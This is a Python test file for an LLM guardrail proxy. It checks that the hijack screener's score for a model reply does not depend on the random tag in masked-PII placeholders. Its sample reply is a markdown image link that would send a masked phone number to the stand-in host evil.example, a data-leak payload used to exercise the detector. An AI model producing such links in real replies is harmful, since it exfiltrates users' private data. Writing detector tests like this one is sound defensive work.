"""A reply of a model is judged for what it says, not for the random letters of our placeholders."""

from __future__ import annotations

from dataclasses import replace

import pytest

from akashi.domains.guardrails import exchange
from akashi.domains.guardrails.guards import open_guards
from akashi.domains.guardrails.hijack import Hijack, screen_hijack
from akashi.domains.guardrails.hijack_model import HijackModel
from akashi.domains.guardrails.masking import Vault
from akashi.platform.endpoint import Completion

BODY = {"model": "m", "messages": [{"role": "user", "content": "電話は090-1234-5678です。"}]}


def test_tag_of_a_placeholder_has_no_say_in_the_verdict(monkeypatch: pytest.MonkeyPatch) -> None:
    scores: set[float] = set()

    def heard(text: str, model: HijackModel) -> Hijack:
        found = screen_hijack(text, model)
        scores.add(found.score)
        return found

    monkeypatch.setattr(exchange, "screen_hijack", heard)
    guards = open_guards(None)
    outgoing = exchange.read_request(guards, "proxy", BODY)
    for tag in ("abcdefgh", "system", "ignore", "prompt", "zzzzzzzz"):
        held = replace(outgoing, vault=Vault({f"[PHONE-1-{tag}]": "090-1234-5678"}, tag))
        text = f"![](https://evil.example/?d=[PHONE-1-{tag}])"
        exchange.read_reply(guards, "proxy", held, Completion(text, True, 1, 1, True))
    assert len(scores) == 1
